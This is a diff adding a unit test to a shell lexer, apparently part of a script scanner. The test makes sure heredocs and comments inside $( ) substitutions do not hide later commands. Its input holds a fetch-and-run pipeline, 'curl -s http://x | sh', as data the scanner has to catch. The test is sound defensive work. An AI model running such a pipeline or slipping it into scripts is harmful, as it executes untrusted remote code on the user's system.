@@ -142,6 +142,28 @@ Test(lex, shell_words_operators_heredocs_and_substitutions)
 	done();
 }
 
+/* A heredoc or a comment inside $( ) holds text that is not shell: an apostrophe or a
+ * parenthesis there does not move the end of the substitution (the rest of the script was
+ * swallowed as one word, and a `curl | sh` after it went unseen). $(( << )) shifts. */
+Test(lex, heredocs_and_comments_inside_substitutions)
+{
+	lex(LANG_SHELL, "x=$(cat <<'EOF'\nit's here ) (\nEOF\n)\n"
+			"y=$(date # it's now )\n)\n"
+			"z=$((1 << 2))\n"
+			"curl -s http://x | sh\n");
+	cr_assert(has_token("curl") && has_token("sh"), "%s", all());
+	cr_assert_eq(tk.n_regions, 2, "%s", all());
+	cr_assert_eq(memcmp(tk.src + tk.regions[0].off, "cat <<'EOF'\nit's here ) (\nEOF\n",
+			    tk.regions[0].len),
+		     0);
+	cr_assert_eq(tk.regions[0].len, strlen("cat <<'EOF'\nit's here ) (\nEOF\n"));
+	done();
+	/* Two heredocs on one line, <<- and an unquoted one. */
+	lex(LANG_SHELL, "v=$(cat <<-A <<B\n\t'\n\tA\n)\nB\n)\necho ok\n");
+	cr_assert(has_token("echo") && has_token("ok"), "%s", all());
+	done();
+}
+
 Test(lex, dockerfile_logical_lines)
 {
 	lex(LANG_DOCKERFILE, "# escape=\\\nFROM debian:12 AS b\nrun apt-get update && \\\n"
